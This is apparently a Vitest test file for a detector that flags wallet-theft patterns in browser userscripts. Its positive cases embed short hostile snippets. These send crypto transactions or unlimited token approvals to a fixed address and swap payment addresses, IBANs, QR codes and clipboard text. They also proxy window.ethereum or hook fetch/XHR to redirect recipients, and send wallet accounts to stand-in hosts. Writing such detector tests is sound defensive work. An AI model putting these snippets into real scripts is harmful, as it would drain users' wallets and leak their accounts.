import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { walletTheft } from "./wallet-theft.ts";

describe("wallet-theft", () => {
	test.each([
		[
			"a payment to its own address",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`ethereum.request({method:"eth_sendTransaction",params:[{to:"0x52908400098527886E0F7030069857D2E4169EE7",value:"0x1"}]})`,
			),
		],
		[
			"a gift asked for by a button that says so: look at it",
			["medium 5"],
			userscript(
				["match https://shop.example/*"],
				`const b=document.createElement("button");b.textContent="Donate";b.onclick=()=>ethereum.request({method:"eth_sendTransaction",params:[{to:"0x52908400098527886E0F7030069857D2E4169EE7",value:"0x1"}]});document.body.append(b)`,
			),
		],
		[
			"a payment by a button that says something else",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`const b=document.createElement("button");b.textContent="Unlock";b.onclick=()=>ethereum.request({method:"eth_sendTransaction",params:[{to:"0x52908400098527886E0F7030069857D2E4169EE7",value:"0x1"}]});document.body.append(b)`,
			),
		],
		[
			"a balance looked up when asked, at a server that the script names: told",
			["low 7"],
			userscript(
				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect api.chain.example"],
				`const b=document.createElement("button");b.onclick=()=>ethereum.request({method:"eth_accounts"}).then(a=>GM_xmlhttpRequest({url:"https://api.chain.example/?a="+a[0],onload:r=>alert(r.responseText)}));document.body.append(b)`,
			),
		],
		[
			"a signature by itself",
			["high 5"],
			userscript(["match https://shop.example/*"], `ethereum.request({method:"personal_sign",params:["hello"]})`),
		],
		[
			"a wallet that is opened",
			["medium 5"],
			userscript(["match https://shop.example/*"], `ethereum.request({method:"eth_requestAccounts"})`),
		],
		[
			"a swapped address on the page",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`document.querySelector("input[name=address]").value="0x52908400098527886E0F7030069857D2E4169EE7"`,
			),
		],
		[
			"accounts sent away",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`ethereum.request({method:"eth_accounts"}).then(a=>fetch("https://c.stranger.test/",{method:"POST",body:JSON.stringify(a)}))`,
			),
		],
		[
			"all tokens handed over after a click, through a name in pieces",
			["critical 8"],
			userscript(
				["match https://shop.example/*", "grant unsafeWindow"],
				`const OP="2222222222222222222222222222222222222222";const pad=h=>h.padStart(64,"0");
const b=document.createElement("button");document.body.append(b);
b.onclick=()=>Reflect.get(unsafeWindow,"ethe"+"reum").request({method:"eth_sendTransaction",params:[{to:b.dataset.c,data:["0xa22cb465",pad(OP),pad("1")].join("")}]})`,
			),
		],
		[
			"an allowance by a library, with the wallet as signer",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`async function go(token){const p=new ethers.BrowserProvider(window.ethereum);const s=await p.getSigner();await new ethers.Contract(token,ABI,s).approve("0x52908400098527886E0F7030069857D2E4169EE7",2n**255n)}`,
			),
		],
		[
			"an allowance by another library",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`const w=new Web3(window.ethereum);const c=new w.eth.Contract(ABI,A);c.methods.setApprovalForAll("0x52908400098527886E0F7030069857D2E4169EE7",true).send({from:A})`,
			),
		],
		[
			"an allowance by a library's client that was given the wallet inside an object",
			["critical 6"],
			userscript(
				["match https://shop.example/*"],
				`const c=viem.createWalletClient({transport:viem.custom(window.ethereum)});
c.writeContract({address:A,abi:[],functionName:"approve",args:["0x52908400098527886E0F7030069857D2E4169EE7",2n**256n-1n]})`,
			),
		],
		[
			"a bank account put into the page",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`document.querySelectorAll(".iban").forEach(e=>{e.textContent="DE89 3704 0044 0532 0130 00"})`,
			),
		],
		[
			"an address that a button copies",
			["critical 5", "critical 6"],
			userscript(
				["match https://shop.example/*"],
				`document.querySelector("#a").dataset.clipboardText="0x52908400098527886E0F7030069857D2E4169EE7";
document.querySelector("#b").setAttribute("data-clipboard-text","0x52908400098527886E0F7030069857D2E4169EE7")`,
			),
		],
		[
			"a code that is scanned",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`document.querySelector("img.qr").src="https://chart.example.com/?qr=bitcoin:bc1q9d3h0t7ey5w2nkx8vuz4s6mla0rqf2gjc7p5te"`,
			),
		],
		[
			"an address in what the page sends",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`const o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){return o.call(this,b.replace(/"address":"[^"]+"/,'"address":"0x52908400098527886E0F7030069857D2E4169EE7"'))}`,
			),
		],
		[
			"an address in what the page is answered",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`const o=window.fetch;window.fetch=async(...a)=>{const r=await o(...a);const j=await r.clone().json();j.address="0x52908400098527886E0F7030069857D2E4169EE7";return new Response(JSON.stringify(j))}`,
			),
		],
		[
			"a proxy whose traps stand in a class",
			["critical 5", "medium 6"],
			userscript(
				["match https://shop.example/*"],
				`class H{get(t,k){return k==="request"?(a)=>t.request({...a,params:[{...a.params[0],to:"0x52908400098527886E0F7030069857D2E4169EE7"}]}):t[k]}}
window.ethereum=new Proxy(window.ethereum,new H())`,
			),
		],
		[
			"accounts as the wallet tells them",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`ethereum.on("accountsChanged",a=>fetch("https://t.stranger.test/?a="+a[0]))`,
			),
		],
		[
			"a payment on another chain",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`window.tronWeb.trx.sendTransaction("TExampLeAddressExampLeAddressXXXXX",5)`,
			),
		],
		[
			"a wallet that announces itself",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`addEventListener("eip6963:announceProvider",e=>e.detail.provider.request({method:"eth_sendTransaction",params:[{to:"0x52908400098527886E0F7030069857D2E4169EE7"}]}))`,
			),
		],
		[
			"a proxy that changes the receiver",
			["medium 5", "critical 5"],
			userscript(
				["match https://shop.example/*"],
				`window.ethereum=new Proxy(window.ethereum,{get(t,k){return k==="request"?(c)=>{c.params[0].to="0x52908400098527886E0F7030069857D2E4169EE7";return t.request(c)}:t[k]}})`,
			),
		],
		[
			"an accessor that hands out a wrapper, with call data of its own",
			["critical 6", "medium 7"],
			userscript(
				["match https://shop.example/*"],
				`const S="095ea7b3",MAX="f".repeat(64),me="91ce27f0a4d8b35e6c01a7f92b4de83c50a61f7e".padStart(64,"0");
let now;const wrap=(w)=>({...w,request:(c)=>w.request({...c,params:c.params.map(p=>({...p,data:"0x"+S+me+MAX}))})});
Object.defineProperty(window,"ethereum",{get:()=>now,set(v){now=wrap(v)}})`,
			),
		],
		[
			"a class in the place of the wallet",
			["critical 6", "medium 7"],
			userscript(
				["match https://shop.example/*"],
				`class Pay{constructor(i){this.i=i}
request(c){return this.i.request({...c,params:[{...c.params[0],to:"0x52908400098527886E0F7030069857D2E4169EE7"}]})}}
Object.defineProperty(window,"ethereum",{value:new Pay(window.ethereum)})`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(walletTheft, code)).toEqual(expected);
	});

	test.each([
		[
			"a balance that is shown",
			userscript(
				["match https://shop.example/*"],
				`ethereum.request({method:"eth_getBalance",params:["x","latest"]}).then(b=>{document.title=b})`,
			),
		],
		[
			"a button that connects",
			userscript(
				["match https://shop.example/*"],
				`const b=document.createElement("button");document.body.append(b);
b.onclick=()=>ethereum.request({method:"eth_requestAccounts"})`,
			),
		],
		[
			"letters and digits that are no account",
			userscript(
				["match https://shop.example/*"],
				`document.querySelectorAll(".id").forEach(e=>{e.textContent="DE88 3704 0044 0532 0130 00"})`,
			),
		],
		[
			"a code for thanks",
			userscript(
				["match https://shop.example/*"],
				`const i=document.createElement("img");i.src="https://chart.example.com/?qr=bitcoin:bc1q9d3h0t7ey5w2nkx8vuz4s6mla0rqf2gjc7p5te";document.body.append(i)`,
			),
		],
		[
			"a token's balance",
			userscript(
				["match https://shop.example/*"],
				`ethereum.request({method:"eth_call",params:[{to:"0x52908400098527886E0F7030069857D2E4169EE7",data:"0x70a08231"+"0".repeat(64)}]}).then(b=>{document.title=b})`,
			),
		],
		[
			"a token that is shown in the wallet",
			userscript(
				["match https://shop.example/*"],
				`const b=document.createElement("button");document.body.append(b);
b.onclick=()=>ethereum.request({method:"wallet_watchAsset",params:{type:"ERC20",options:{address:"0x52908400098527886E0F7030069857D2E4169EE7"}}})`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(walletTheft, code)).toEqual([]);
	});

	test("reports a wrapper that only reads, with low severity", () => {
		const code = `const real=ethereum.request;
ethereum.request=function(c){if(c.params[0].data.startsWith("0x095ea7b3")&&!confirm("Unlimited?"))return Promise.reject();return real.call(this,c)}`;
		expect(findIn(walletTheft, userscript(["match https://shop.example/*"], code))).toEqual(["medium 6"]);
	});
});
